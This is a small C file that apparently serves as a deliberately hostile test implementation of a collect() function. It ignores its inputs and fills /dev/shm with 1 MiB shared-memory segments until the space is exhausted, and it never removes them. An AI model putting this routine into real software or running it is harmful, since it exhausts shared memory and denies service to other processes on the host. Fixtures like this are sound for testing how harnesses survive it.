/* Fills /dev/shm with segments until it is full, and leaves them there. */
#include "collect.h"
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <unistd.h>
int collect(int n, long (*work)(int index), long items[])
{
    (void)n, (void)work, (void)items;
    static char block[1 << 20];
    for (int i = 0;; i++) {
        char name[64];
        snprintf(name, sizeof name, "/fill-%d-%d", (int)getpid(), i);
        int fd = shm_open(name, O_CREAT | O_RDWR, 0600);
        if (fd == -1)
            return -1;
        ssize_t wrote = write(fd, block, sizeof block);
        close(fd);
        if (wrote != (ssize_t)sizeof block)
            return -1;
    }
}
